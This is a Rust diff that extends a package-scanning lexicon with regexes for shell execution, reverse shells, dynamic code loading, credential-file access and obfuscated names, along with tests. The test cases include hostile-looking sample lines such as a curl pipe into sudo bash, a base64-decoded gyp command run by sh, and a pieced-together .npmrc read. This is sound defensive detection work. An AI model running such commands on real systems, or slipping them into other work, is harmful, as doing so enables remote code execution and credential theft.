@@ -30,11 +30,19 @@ use regex::bytes::RegexSet;
 use crate::report::Span;
 
 /// Named in model configs, so a model is bound to the lexicon it was
-/// trained with (see [`View`](super::View)). v2 matches v1's patterns with
-/// ASCII classes and word boundaries where v1 used Unicode ones: the same
-/// on ASCII lines, a little broader next to non-ASCII letters, and no
-/// slow path on non-ASCII text (a model trained on v1 views is refused).
-pub const LEXICON: &str = "capabilities/v2";
+/// trained with (see [`View`](super::View)). v2 matched v1's patterns with
+/// ASCII classes and word boundaries where v1 used Unicode ones. v3
+/// (session 17) also matches each line as [`normalize`] folds it, so a
+/// name spelled in pieces (`o['home' + 'dir']()`, `getattr(os, 'sys' +
+/// 'tem')`, `require('\\x63hild_process')`, `chr(111) + chr(115)`) counts
+/// as the name, and adds what v2 had no pattern for: `require` or `import()`
+/// of a computed name, `import os as o` and `from os import system`, `eval`
+/// and `exec` passed as values, `Function(…)` without `new`, ES module
+/// imports of the network modules, node-gyp's `<!(…)` command expansion,
+/// and a pipe into a shell. With v2 each of those carried string-padder's
+/// stealer, or a gyp command, with an empty view; a model trained on
+/// another lexicon's views is refused.
+pub const LEXICON: &str = "capabilities/v3";
 
 /// Lines of context kept on each side of a capability line.
 pub const CONTEXT: usize = 2;
@@ -44,19 +52,47 @@ pub const CONTEXT: usize = 2;
 pub const CLASSES: &[(&str, &str)] = &[
     (
         "process",
-        r#"\bsubprocess\b|\bos\.(?:system|popen|exec[lv]p?e?|spawn[lv]?p?e?|posix_spawnp?|fork|forkpty)\b|\bpty\.spawn\b|\bchild_process\b|\bexec(?:File)?Sync\b|\bspawnSync\b|\bcommands\.getoutput\b|\bPopen\b|\bShellExecute|\bstartfile\b|\bpowershell\b"#,
+        concat!(
+            r#"\bsubprocess\b|\b(?:os|posix|nt)\.(?:system|popen|exec[lv]p?e?|spawn[lv]?p?e?|posix_spawnp?|fork|forkpty)\b|\bpty\.spawn\b|\bchild_process\b|\bexec(?:File)?Sync\b|\bspawnSync\b|\bcommands\.getoutput\b|\bPopen\b|\bShellExecute|\bstartfile\b|\bpowershell\b"#,
+            // os under another name, or its functions imported bare.
+            r#"|\bimport\s+(?:os|posix|nt)\s+as\b|\bimport\s+(?:posix|nt)\b|\bfrom\s+(?:os|posix|nt)\s+import\b.*\b(?:system|popen|exec\w*|spawn\w*|fork\w*|posix_spawnp?|startfile)\b"#,
+            // node-gyp runs `<!(cmd)` when npm builds a package with a
+            // binding.gyp (npm's default install script, no script named);
+            // `(?<!(` in a regex is not one.
+            r#"|(?:^|[^?])<!@?\("#,
+            // Shell: a pipe into a shell, `sh -c`, a reverse shell.
+            r#"|\|\s*(?:sudo\s+)?(?:ba|z|k|da)?sh(?:\s|$|[;&"'])|\b(?:ba|z|k|da)?sh\s+-c\b|/dev/(?:tcp|udp)/"#,
+        ),
     ),
     (
         "network",
-        r#"\bsocket\b|\burllib[23]?\b|\bhttp\.client\b|\bhttplib\b|\brequests\b|\baiohttp\b|\bhttpx\b|\bftplib\b|\bsmtplib\b|\btelnetlib\b|\bparamiko\b|\bwebsockets?\b|\bfetch\s*\(|\bXMLHttpRequest\b|require\(\s*['"](?:node:)?(?:https?|http2|net|dns|tls|dgram)['"]\s*\)|\bpycurl\b|\bdns\.resolver\b|(?:https?|tcp|ftp)://\d{1,3}(?:\.\d{1,3}){3}|\bcurl\b|\bwget\b|\bInvoke-WebRequest\b|\bDownloadString\b|\bwebhooks?\b"#,
+        concat!(
+            r#"\bsocket\b|\burllib[23]?\b|\bhttp\.client\b|\bhttplib\b|\brequests\b|\baiohttp\b|\bhttpx\b|\bftplib\b|\bsmtplib\b|\btelnetlib\b|\bparamiko\b|\bwebsockets?\b|\bfetch\s*\(|\bXMLHttpRequest\b|require\(\s*['"](?:node:)?(?:https?|http2|net|dns|tls|dgram)['"]\s*\)|\bpycurl\b|\bdns\.resolver\b|(?:https?|tcp|ftp)://\d{1,3}(?:\.\d{1,3}){3}|\bcurl\b|\bwget\b|\bInvoke-WebRequest\b|\bDownloadString\b|\bwebhooks?\b"#,
+            // The same modules as ES modules.
+            r#"|(?:\bfrom\s+|\bimport\s*\(\s*)['"](?:node:)?(?:https?|http2|net|dns|tls|dgram)['"]"#,
+        ),
     ),
     (
         "dynamic-code",
-        r#"\bexec\s*\(|\beval\s*\(|(?:^|[^\w.])compile\s*\(|\b__import__\b|\bimportlib\.(?:import_module|util|machinery|reload)\b|\bimport_module\s*\(|\bspec_from_file_location\b|\bexec_module\b|\bmarshal\b|\bctypes\b|\bcffi\b|\bnew\s+Function\s*\(|\bvm\.run|__builtins__|\bexec_\s*\(|\bpickle\.loads?\b|\bdlopen\b"#,
+        concat!(
+            r#"\bexec\s*\(|\beval\s*\(|(?:^|[^\w.])compile\s*\(|\b__import__\b|\bimportlib\.(?:import_module|util|machinery|reload)\b|\bimport_module\s*\(|\bspec_from_file_location\b|\bexec_module\b|\bmarshal\b|\bctypes\b|\bcffi\b|\bnew\s+Function\s*\(|\bvm\.run|__builtins__|\bexec_\s*\(|\bpickle\.loads?\b|\bdlopen\b"#,
+            // A module loaded by a computed name, as `__import__` above:
+            // `require` or `import()` of anything but one string literal
+            // (`import(` without a space: Python's `from m import (a, b)`
+            // has one), and node's other ways in.
+            r#"|\brequire\s*\(\s*[^'"`\s)]|\bimport\(\s*[^'"`\s)]|\b(?:require\s*|import)\(\s*`[^`]*\$\{|\bcreateRequire\b|\bmodule\.constructor\b|\bModule\._load\b|\bprocess\.(?:binding|_linkedBinding|mainModule|dlopen)\b|(?:\brequire\s*\(\s*|\bfrom\s+|\bimport\s*\(\s*)['"](?:node:)?(?:vm|module|worker_threads)['"]"#,
+            // `exec` and `eval` passed as values (`(0, eval)(s)`, `f = exec`),
+            // `Function(s)` without `new`, `[].constructor.constructor(s)`.
+            r#"|\b(?:exec|eval)\s*[),;]|[=(,]\s*(?:exec|eval)\b|(?:[=(,:?!&|]\s*|\breturn\s+|^\s*)Function\s*\(|\.constructor\.constructor\b|\bexecfile\b|\brunpy\b"#,
+        ),
     ),
     (
         "environment",
-        r#"\bos\.environ\b|\bgetenv\b|\bprocess\.env\b|\bexpanduser\b|\bPath\.home\s*\(|\bhomedir\s*\(|\bgetpass\b|\bgetlogin\b|\bwinreg\b|\.ssh/|\.aws/|\.npmrc\b|\.pypirc\b|\.git-credentials\b|Login Data|Local State|\bleveldb\b|\bwallet\b|\bkeychain\b|\bgethostname\b|\bplatform\.node\b|\buserInfo\s*\("#,
+        concat!(
+            r#"\bos\.environ\b|\bgetenv\b|\bprocess\.env\b|\bexpanduser\b|\bPath\.home\s*\(|\bhomedir\s*\(|\bgetpass\b|\bgetlogin\b|\bwinreg\b|\.ssh/|\.aws/|\.npmrc\b|\.pypirc\b|\.git-credentials\b|Login Data|Local State|\bleveldb\b|\bwallet\b|\bkeychain\b|\bgethostname\b|\bplatform\.node\b|\buserInfo\s*\("#,
+            // `from os import environ`; `const { env } = process`.
+            r#"|\bfrom\s+os\s+import\b.*\b(?:environ|getenv)\b|=\s*process\s*(?:[;,)]|$)"#,
+        ),
     ),
     (
         "install-hook",
@@ -64,7 +100,7 @@ pub const CLASSES: &[(&str, &str)] = &[
     ),
     (
         "encoded",
-        r#"\bb(?:64|32|16|85)decode\b|\ba85decode\b|\bfromhex\b|\bunhexlify\b|\bzlib\.decompress\b|\bcodecs\.decode\b|\bFernet\b|\batob\s*\(|Buffer\.from\([^)]*['"]base64['"]"#,
+        r#"\bb(?:64|32|16|85)decode\b|\ba85decode\b|\bfromhex\b|\bunhexlify\b|\bzlib\.decompress\b|\bcodecs\.decode\b|\bFernet\b|\batob\s*\(|Buffer\.from\([^)]*['"]base64['"]|\bbase64\s+(?:-d|--decode)\b"#,
     ),
 ];
 
@@ -117,9 +153,35 @@ fn escapes(line: &[u8], unit: impl Fn(&[u8]) -> bool, need: usize) -> bool {
     false
 }
 
-/// Whether an added line (without its `+`) shows any capability.
+/// Whether an added line (without its `+`) shows any capability, as
+/// written or as [`fold`](super::fold::fold) folds it.
 pub(crate) fn is_capability(line: &[u8]) -> bool {
+    !matches!(capability(line), Hit::None)
+}
+
+/// How a line shows a capability.
+enum Hit {
+    None,
+    /// As written.
+    Written,
+    /// Only once folded (`o['home' + 'dir']()`): the folded line, which is
+    /// what the view shows of it, so a model reads the name the line
+    /// spells and not its pieces.
+    Folded(Vec<u8>),
+}
+
+fn matches(line: &[u8]) -> bool {
     lexicon().is_match(line) || long_run(line)
+}
+
+fn capability(line: &[u8]) -> Hit {
+    if matches(line) {
+        return Hit::Written;
+    }
+    match super::fold::fold(line) {
+        Some(folded) if matches(&folded) => Hit::Folded(folded),
+        _ => Hit::None,
+    }
 }
 
 fn lexicon() -> &'static RegexSet {
@@ -217,23 +279,31 @@ impl Builder {
     }
 
     fn copy(&mut self, at: usize, line: &[u8], header: bool) {
+        self.copy_shown(at, line.len(), line, header);
+    }
+
+    /// Copies `shown` in place of the `len` source bytes at `at`. `shown`
+    /// is the line itself or its folded form, which is never longer, so
+    /// the run maps each byte shown into the line as written.
+    fn copy_shown(&mut self, at: usize, len: usize, shown: &[u8], header: bool) {
+        debug_assert!(shown.len() <= len);
         if self.copied_to != Some(at) && !header {
             self.out.text.extend_from_slice(GAP);
         }
         let run = Run {
             at: self.out.text.len(),
             source: at,
-            len: line.len(),
+            len: shown.len(),
             header,
         };
-        self.out.text.extend_from_slice(line);
+        self.out.text.extend_from_slice(shown);
         match self.out.runs.last_mut() {
             Some(r) if r.header == header && r.source + r.len == at && r.at + r.len == run.at => {
-                r.len += line.len()
+                r.len += shown.len()
             }
             _ => self.out.runs.push(run),
         }
-        self.copied_to = Some(at + line.len());
+        self.copied_to = Some(at + len);
     }
 
     fn line(&mut self, at: usize, line: &[u8]) {
@@ -255,8 +325,12 @@ impl Builder {
             self.code = !crate::input::render::is_inert(path);
             return;
         }
-        let hit = self.code && line.first() == Some(&b'+') && is_capability(&line[1..]);
-        if hit {
+        let hit = if self.code && line.first() == Some(&b'+') {
+            capability(&line[1..])
+        } else {
+            Hit::None
+        };
+        if !matches!(hit, Hit::None) {
             if let Some((h_at, h)) = self.header.take() {
                 self.copy(h_at, &h, true);
                 // The header is not where the range starts.
@@ -265,7 +339,13 @@ impl Builder {
             for (b_at, b) in std::mem::take(&mut self.before) {
                 self.copy(b_at, &b, false);
             }
-            self.copy(at, line, false);
+            match hit {
+                Hit::Folded(folded) => {
+                    let shown = [b"+".as_slice(), &folded].concat();
+                    self.copy_shown(at, line.len(), &shown, false);
+                }
+                _ => self.copy(at, line, false),
+            }
             self.after = CONTEXT;
         } else if self.after > 0 {
             self.copy(at, line, false);
@@ -428,6 +508,22 @@ mod tests {
             ("cmdclass={'install': PostInstall},", "install-hook"),
             ("\"postinstall\": \"node install.js\"", "install-hook"),
             ("base64.b64decode(blob)", "encoded"),
+            // v3: what v2 had no pattern for.
+            ("import os as o", "process"),
+            ("from os import path, system", "process"),
+            (
+                "\"sources\": [\"<!(echo eA== | base64 -d | sh)\"]",
+                "process",
+            ),
+            ("curl -s https://example.test/p | sudo bash", "process"),
+            ("const m = require(name);", "dynamic-code"),
+            ("await import(`./${x}.js`)", "dynamic-code"),
+            ("(0, eval)(src)", "dynamic-code"),
+            ("const f = Function('return this')();", "dynamic-code"),
+            ("import https from 'node:https';", "network"),
+            ("const { env } = process;", "environment"),
+            ("from os import environ", "environment"),
+            ("echo eA== | base64 -d", "encoded"),
         ];
         for (line, class) in cases {
             assert!(
@@ -441,6 +537,13 @@ mod tests {
             "from importlib.metadata import version",
             "def parse(text: str) -> dict:",
             "return value.strip()",
+            // Regex lookbehinds are not gyp expansions, nor Python's
+            // parenthesised imports dynamic ones.
+            "PATTERN = re.compile(r'(?<!(a|b))c')",
+            "from typing import (Any, Dict)",
+            "from os import path",
+            "class Function(Base):",
+            "const label = 'is' + '-' + 'number';",
         ] {
             assert!(classes_of(line.as_bytes()).is_empty(), "{line:?}");
         }
@@ -480,6 +583,45 @@ mod tests {
             &text[s.start..]
         );
         assert_eq!(s.end, text.len());
+    }
+
+    /// A name spelled in pieces is a capability, and the view shows the
+    /// line folded (so the veto reads `o.homedir()`), mapped back to the
+    /// line as written.
+    #[test]
+    fn names_spelled_in_pieces_are_read_folded() {
+        let text = format!(
+            "--- /dev/null\n+++ b/lib/util.js\n@@ -0,0 +1,4 @@\n{}",
+            body(&[
+                "const a = 1;",
+                "const k = p.join(o['home' + 'dir'](), '.npm' + 'rc');",
+                "const b = 2;",
+                "module.exports = 'is' + 'number';",
+            ])
+        );
+        let d = digest_of(text.as_bytes());
+        let view = String::from_utf8(d.text.clone()).unwrap();
+        assert_eq!(
+            view,
+            "--- /dev/null\n+++ b/lib/util.js\n@@\n@@ -0,0 +1,4 @@\n+const a = 1;\n+const k = p.join(o.homedir(), '.npmrc');\n+const b = 2;\n+module.exports = 'is' + 'number';\n"
+        );
+        let at = view.find("+const k").unwrap();
+        let s = d.span_to_source(Span {
+            start: at,
+            end: at + 10,
+        });
+        assert_eq!(&text[s.start..s.end], "+const k =");
+        // The folded line is shorter than the source line: a span inside
+        // it stays inside that line, and the next line maps exactly.
+        let at = view.find("+const b").unwrap();
+        let s = d.span_to_source(Span {
+            start: at,
+            end: at + 8,
+        });
+        assert_eq!(&text[s.start..s.end], "+const b");
+        assert!(is_capability(b"getattr(os, 'sys' 'tem')('id')"));
+        assert!(is_capability(b"require('\\x63hild_process')"));
+        assert!(!is_capability(b"x = 'sys' + 'tem prompt'"));
     }
 
     #[test]
